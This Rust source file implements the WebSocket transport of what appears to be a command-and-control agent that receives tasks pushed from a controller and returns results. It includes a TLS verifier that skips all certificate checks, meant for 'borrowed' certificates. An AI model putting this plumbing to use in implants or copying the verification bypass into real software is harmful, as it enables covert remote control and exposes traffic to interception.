//! Duplex-family Communicator: plaintext and TLS WebSocket. Connect is a
//! one-time handshake; afterwards the controller pushes tasks and the
//! agent writes results back over the same socket. One lock guards the
//! socket slot, since reads, writes and disconnects may originate from
//! different activities.

use crate::config::{ChannelConfig, Transport};
use crate::protocol::TaskResult;
use crate::transport::{Communicator, DuplexChannel, AGENT_ID_HEADER, USER_AGENT};
use async_trait::async_trait;
use futures::{SinkExt, StreamExt};
use std::sync::Arc;
use std::time::Duration;
use tokio::net::TcpStream;
use tokio::sync::Mutex;
use tokio::time::timeout;
use tokio_tungstenite::tungstenite::client::IntoClientRequest;
use tokio_tungstenite::tungstenite::http::header::{HeaderName, HeaderValue, USER_AGENT as UA};
use tokio_tungstenite::tungstenite::protocol::Message;
use tokio_tungstenite::{connect_async_tls_with_config, Connector, MaybeTlsStream, WebSocketStream};
use tracing::debug;
use uuid::Uuid;

const HANDSHAKE_TIMEOUT: Duration = Duration::from_secs(15);

type Socket = WebSocketStream<MaybeTlsStream<TcpStream>>;

pub struct WsCommunicator {
    config: ChannelConfig,
    identity: Uuid,
    socket: Mutex<Option<Socket>>,
}

impl WsCommunicator {
    pub fn new(config: ChannelConfig, identity: Uuid) -> Self {
        Self {
            config,
            identity,
            socket: Mutex::new(None),
        }
    }

    fn connector(&self) -> crate::Result<Option<Connector>> {
        if self.config.transport == Transport::Wss && !self.config.verify_tls {
            return Ok(Some(Connector::Rustls(Arc::new(no_verify_tls_config()?))));
        }
        // None selects the default rustls connector with system roots.
        Ok(None)
    }
}

#[async_trait]
impl Communicator for WsCommunicator {
    fn transport(&self) -> Transport {
        self.config.transport
    }

    async fn connect(&self) -> crate::Result<()> {
        let mut guard = self.socket.lock().await;
        if guard.is_some() {
            return Ok(());
        }

        let url = self.config.duplex_url();
        let mut request = url.as_str().into_client_request()?;
        request
            .headers_mut()
            .insert(UA, HeaderValue::from_static(USER_AGENT));
        let id_value = HeaderValue::from_str(&self.identity.to_string())
            .map_err(|e| crate::AgentError::Config(format!("invalid agent id header: {e}")))?;
        request
            .headers_mut()
            .insert(HeaderName::from_static(AGENT_ID_HEADER), id_value);

        let connector = self.connector()?;
        let handshake = connect_async_tls_with_config(request, None, false, connector);
        let (socket, _response) = timeout(HANDSHAKE_TIMEOUT, handshake)
            .await
            .map_err(|_| crate::AgentError::Transport("duplex handshake timed out".into()))??;

        debug!(url = %self.config.duplex_url(), "duplex channel established");
        *guard = Some(socket);
        Ok(())
    }

    async fn disconnect(&self) -> crate::Result<()> {
        let mut guard = self.socket.lock().await;
        if let Some(mut socket) = guard.take() {
            if let Err(e) = socket.close(None).await {
                debug!(error = %e, "duplex close handshake failed");
            }
        }
        Ok(())
    }

    async fn check_in(&self) -> crate::Result<String> {
        // No-op by contract: the controller pushes over the open socket.
        Ok(String::new())
    }

    async fn send_result(&self, result: &TaskResult) -> crate::Result<()> {
        let payload = serde_json::to_string(result)?;
        let mut guard = self.socket.lock().await;
        let socket = guard.as_mut().ok_or(crate::AgentError::NotConnected)?;
        socket.send(Message::Text(payload)).await?;
        Ok(())
    }

    fn duplex(&self) -> Option<&dyn DuplexChannel> {
        Some(self)
    }
}

#[async_trait]
impl DuplexChannel for WsCommunicator {
    async fn read_message(&self) -> crate::Result<Option<String>> {
        let mut guard = self.socket.lock().await;
        let socket = guard.as_mut().ok_or(crate::AgentError::NotConnected)?;

        match socket.next().await {
            Some(Ok(Message::Text(text))) => {
                if text.is_empty() {
                    Ok(None)
                } else {
                    Ok(Some(text))
                }
            }
            // Keepalive traffic and non-text frames carry no tasking.
            Some(Ok(Message::Ping(_) | Message::Pong(_) | Message::Binary(_))) => Ok(None),
            Some(Ok(Message::Frame(_))) => Ok(None),
            Some(Ok(Message::Close(_))) => Err(crate::AgentError::Transport(
                "duplex channel closed by controller".into(),
            )),
            Some(Err(e)) => Err(e.into()),
            None => Err(crate::AgentError::Transport("duplex stream ended".into())),
        }
    }
}

/// Client TLS config that skips certificate verification, for
/// `verify_tls = false` against controllers fronted by self-signed or
/// borrowed certificates.
fn no_verify_tls_config() -> crate::Result<rustls::ClientConfig> {
    let provider = rustls::crypto::ring::default_provider();
    let config = rustls::ClientConfig::builder_with_provider(Arc::new(provider))
        .with_safe_default_protocol_versions()
        .map_err(|e| crate::AgentError::Transport(format!("tls config: {e}")))?
        .dangerous()
        .with_custom_certificate_verifier(Arc::new(NoVerification))
        .with_no_client_auth();
    Ok(config)
}

#[derive(Debug)]
struct NoVerification;

impl rustls::client::danger::ServerCertVerifier for NoVerification {
    fn verify_server_cert(
        &self,
        _end_entity: &rustls::pki_types::CertificateDer<'_>,
        _intermediates: &[rustls::pki_types::CertificateDer<'_>],
        _server_name: &rustls::pki_types::ServerName<'_>,
        _ocsp_response: &[u8],
        _now: rustls::pki_types::UnixTime,
    ) -> Result<rustls::client::danger::ServerCertVerified, rustls::Error> {
        Ok(rustls::client::danger::ServerCertVerified::assertion())
    }

    fn verify_tls12_signature(
        &self,
        _message: &[u8],
        _cert: &rustls::pki_types::CertificateDer<'_>,
        _dss: &rustls::DigitallySignedStruct,
    ) -> Result<rustls::client::danger::HandshakeSignatureValid, rustls::Error> {
        Ok(rustls::client::danger::HandshakeSignatureValid::assertion())
    }

    fn verify_tls13_signature(
        &self,
        _message: &[u8],
        _cert: &rustls::pki_types::CertificateDer<'_>,
        _dss: &rustls::DigitallySignedStruct,
    ) -> Result<rustls::client::danger::HandshakeSignatureValid, rustls::Error> {
        Ok(rustls::client::danger::HandshakeSignatureValid::assertion())
    }

    fn supported_verify_schemes(&self) -> Vec<rustls::SignatureScheme> {
        rustls::crypto::ring::default_provider()
            .signature_verification_algorithms
            .supported_schemes()
    }
}
